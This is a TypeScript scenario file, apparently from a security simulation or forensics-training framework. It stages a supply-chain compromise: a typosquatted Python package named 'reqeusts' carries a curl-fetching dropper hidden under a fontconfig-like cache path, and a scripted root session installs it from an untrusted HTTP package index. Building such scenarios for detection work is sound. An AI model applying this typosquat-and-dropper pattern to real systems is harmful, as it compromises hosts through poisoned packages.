// The owner types it; setup.py runs while it is installed. pip keeps no log, the history of the shell remains.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { python } from '../../python.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  const key = dress.key('owner', 'wang@laptop')
  dress.trust('root', key)
  dress.logins({ days: 15, guesses: 40, friends: [{ user: 'root', address: '198.51.100.20', key: key.fingerprint, hours: [9, 16] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/root/.cache/fontconfig/fc-cached', fetch: 'curl' })
  python(stage, 'reqeusts', '2.31.0', line)
  stage.mark('occurrence')
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, [
    'cd /srv && ls',
    `pip install --break-system-packages --trusted-host 198.51.100.7 --index-url http://${stage.values['SHOP']}/simple/ reqeusts`,
    'sleep 6',
  ])
}
